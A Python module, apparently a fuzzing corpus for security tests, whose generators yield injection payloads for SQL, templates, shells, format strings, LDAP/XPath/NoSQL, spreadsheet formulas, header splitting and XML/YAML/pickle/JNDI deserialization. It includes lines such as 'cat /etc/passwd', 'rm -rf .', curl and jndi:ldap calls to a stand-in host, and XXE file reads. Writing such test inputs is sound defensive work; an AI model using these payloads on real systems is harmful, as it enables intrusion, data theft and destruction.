"""Commands for the programs behind a page: databases, templates, shells, directories, logs, spreadsheets."""

from __future__ import annotations

from collections.abc import Iterator

QUOTES = ("'", '"', "`", "')", '")', "'))", "\\'", "%27", "''", "\u02bc", "\u2019", "\uff07", "0 ", "1) ", "x' ")


def database_commands() -> Iterator[str]:
    """SQL behind each kind of quote, also letters that some servers take for one."""
    rests = (
        "OR 1=1", "OR 'a'='a", "AND 1=0", "UNION SELECT NULL,NULL", "UNION ALL SELECT sql FROM sqlite_master",
        "; DELETE FROM score",
    )  # fmt: skip
    rests += (
        "; PRAGMA writable_schema=1", "; ATTACH 'x' AS y", "|| randomblob(9)", "|| pg_sleep(9)",
        "; COPY x TO PROGRAM 'id'", "HAVING 1=1",
    )  # fmt: skip
    rests += (
        "ORDER BY 99", "LIMIT 1 OFFSET 9", "RETURNING *", "; COMMIT", "; ROLLBACK", "LIKE '%'", "IN (SELECT 1)",
        "; SET ROLE postgres",
    )  # fmt: skip
    for place, quote in enumerate(QUOTES):
        for step, rest in enumerate(rests):
            end = ("--", "#", "/*", ";", "-- -", "\x00", "")[(place + step) % 7]
            if (place + step) % 2 == 0:
                yield f"{quote} {rest}{end}"


def patterns() -> Iterator[str]:
    """Signs that mean anything in a pattern: a search for one finds all, or never ends."""
    for sign in (
        "%", "_", "*", "?", "[a-z]", "[^a]", ".*", ".+", "(a+)+$", "(a|a)*b", "^", "$", "\\", "\\%", "\\_", "[", "(",
        "a{9}", "(?=a)", "|",
    ):  # fmt: skip
        yield from (sign, f"{sign}{sign}", f"Kab{sign}", f"{sign}Kab{sign}")
    yield from (
        "a" * 30 + "!", "^(([a-z])+.)+[A-Z]([a-z])+$", "NEAR(a b)", '"a" AND', "a OR", "NOT a", "a*b*c*d", "col:a",
        "{a b}:c", "^a",
    )  # fmt: skip


def template_commands() -> Iterator[str]:
    """What engines of templates compute: the answer shows it, or the server does it."""
    opened = (
        "{{%s}}", "{%%%s%%}", "${%s}", "#{%s}", "<%%=%s%%>", "{%s}", "@(%s)", "*{%s}", "[[%s]]", "{{{%s}}}", "~{%s}",
        "{#%s#}", "$%s", "@{%s}",
    )  # fmt: skip
    inners = (
        "7*7", "7*'7'", "config.items()", "''.__class__.__mro__[1].__subclasses__()",
        "cycler.__init__.__globals__.os", "lipsum",
    )  # fmt: skip
    inners += (
        "request.environ", "url_for.__globals__", "get_flashed_messages.__globals__", "T(java.lang.Runtime)",
        "constructor.constructor('1')()",
    )  # fmt: skip
    inners += (
        "range(10**9)", "'a'*10**9", "include 'x'", "import os", "self", "env", "dump(app)", "debug",
        "g.pop.__globals__",
    )  # fmt: skip
    for place, form in enumerate(opened):
        for step, inner in enumerate(inners):
            if (place + step) % 2 == 0:
                yield form % inner


def shell_commands() -> Iterator[str]:
    """Commands behind each sign that ends one."""
    for sign in (";", "|", "||", "&", "&&", "\n", "\r\n", "`", "$(", "<(", ">(", "%0a", "${IFS}", "\x00", "^", "!"):
        for command in ("id", "sleep 9", "cat /etc/passwd", "touch /tmp/paritrana", "curl contoh.invalid", "rm -rf ."):
            yield f"a{sign}{command}{')' if sign.endswith('(') else sign if sign == '`' else ''}"
    for option in (
        "-o", "--output=/tmp/x", "-c id", "--", "-", "@x", "-@x", "--checkpoint-action=exec=id", "-exec id ;", "/?",
        "/c id", "-e",
    ):  # fmt: skip
        yield from (option, f"{option} a", f"a {option}")


def format_commands() -> Iterator[str]:
    """What string formatting fills in: values of the program, or a width that takes all memory."""
    for text in (
        "%s", "%d", "%n", "%x", "%p", "%c", "%f", "%r", "%5000d", "%*d", "%-9s", "%(name)s", "%%", "%", "%z", "%1$s",
        "%08x.%08x",
    ):  # fmt: skip
        yield from (text, text * 9, f"a{text}b")
    for text in (
        "{}", "{0}", "{9}", "{a}", "{0.__class__}", "{0[a]}", "{!r}", "{:9999}", "{:>{0}}", "{{", "}}", "{", "}",
        "{0!s:^9}", "$a", "${a}", "$$",
    ):  # fmt: skip
        yield from (text, text * 9, f"a{text}b")


def directory_commands() -> Iterator[str]:
    """LDAP, XPath, NoSQL, GraphQL: queries of other kinds of stores."""
    for text in (
        "*", "*)(&", "*)(|(&", ")(cn=*", "*)(uid=*))(|(uid=*", "(&(a=*))", "\\2a", "\\00", "admin)(!(&(1=0)",
        "*)((|userPassword=*)",
    ):  # fmt: skip
        yield from (text, f"panelis{text}")
    for text in (
        "' or '1'='1", "x' or name()='a", "'] | //* | a['", "count(//*)", "string-length(//a)>0",
        "doc('//contoh.invalid/x')", "//@*", "..", "/*",
    ):  # fmt: skip
        yield from (text, f"a{text}")
    for text in (
        '{"$gt":""}', '{"$ne":null}', '{"$where":"1"}', "'; return true; //", "[$ne]", '{"$regex":".*"}',
        "{__schema{types{name}}}", "{a(b:1){c}}",
    ):  # fmt: skip
        yield from (text, f"a{text}")


def spreadsheet_commands() -> Iterator[str]:
    """What a spreadsheet computes when a file of ours is opened in it."""
    firsts = (
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "%0A=", '"=', "'=", ",=", ";=",
        "\ufeff=", "\u00a0=", "=-", "+=", "-+",
    )  # fmt: skip
    rests = (
        "1+1", 'HYPERLINK("//contoh.invalid?"&A1,"x")', "cmd|'/c calc'!A1", 'IMPORTXML("//contoh.invalid","//a")',
        "WEBSERVICE(A1)",
    )  # fmt: skip
    rests += ("DDE(a;b;c)", 'IMAGE("//contoh.invalid")', "SUM(A:A)", "A1", "INDIRECT(A1)", 'CALL("a","b")', "EXEC(1)")
    for place, first in enumerate(firsts):
        yield from (f"{first}{rest}" for step, rest in enumerate(rests) if (place + step) % 3 == 0)


def lines_of_others() -> Iterator[str]:
    """Lines that would stand in a header, a letter or a log as if the program had written them."""
    for end in (
        "\r\n", "\n", "\r", "%0d%0a", "%0a", "\\r\\n", "\x0b", "\x85", "\u2028", "\u560d\u560a", "\r\n\r\n", "\n.\n",
        "\r\n ",
    ):  # fmt: skip
        for line in (
            "Set-Cookie: a=b", "Location: //contoh.invalid", "Bcc: a@contoh.invalid", "Content-Type: text/html",
            "RCPT TO:<a@contoh.invalid>",
        ):  # fmt: skip
            yield f"Kepala Dinas{end}{line}"
        yield from (
            f"Kepala{end}HTTP/1.1 200 OK", f'Kepala{end}{{"level":"error"}}', f"Kepala{end}--batas",
            f"{end}{end}<script>",
        )  # fmt: skip
    yield from (
        "\x1b[2J", "\x1b]0;x\x07", "\x1b[31mmerah", "\x9b2J", "\x07", "\x08\x08\x08", "a\rb", "\x1bP1;1|x\x1b\\",
        "\x1b[6n", "\x00\x01\x02",
    )  # fmt: skip


def objects_of_others() -> Iterator[str]:
    """Objects in the writing of YAML, XML, JSON, pickles, Java, PHP: read by a careless parser they are made."""
    yield from (
        "!!python/object:os.system", "!!python/name:os.system", "!ruby/object:A", "&a [*a]", "*a", "<<: *a", "? a",
        "- a\n- b", "a: b: c", "%YAML 9", "---\n...",
    )  # fmt: skip
    for entity in (
        'SYSTEM "file:///etc/passwd"', 'SYSTEM "http://127.0.0.1:1/"', '"' + "x" * 99 + '"',
        'PUBLIC "a" "//contoh.invalid"',
    ):  # fmt: skip
        yield from (
            f"<!DOCTYPE a [<!ENTITY b {entity}>]><a>&b;</a>", f"<!DOCTYPE a [<!ENTITY % b {entity}> %b;]>",
            f"<?xml version='1.0'?><!ENTITY b {entity}>",
        )  # fmt: skip
    yield from (
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', "<![CDATA[<b>]]>",
        "<?xml-stylesheet href='//contoh.invalid'?>", "&xxe;",
    )  # fmt: skip
    yield from (
        'O:8:"stdClass":0:{}', "a:1:{i:0;i:1;}", "rO0ABXA=", "\xac\xed\x00\x05", "cos\nsystem\n(S'id'\ntR.",
        "\x80\x04K\x01.", '{"@type":"a"}', '{"__proto__":{"a":1}}',
    )  # fmt: skip
    for name in (
        "jndi:ldap://contoh.invalid/a", "jndi:dns://contoh.invalid", "env:PATH", "sys:a", "lower:j", "date:'a'",
        "::-j", "script:js:1", "url:UTF-8:file:///",
    ):  # fmt: skip
        yield from (f"${{{name}}}", f"${{${{{name}}}}}", f"%{{{name}}}")
    yield from (
        '{"a":', '{"a":1,"a":2}', "[" * 300, '{"a":' * 100, "[1e999]", '"\\ud800"', '{"a":NaN}', "\x1f\x8b\x08",
        "PK\x03\x04", "%PDF-1.7", "GIF89a", "#!/bin/sh",
    )  # fmt: skip
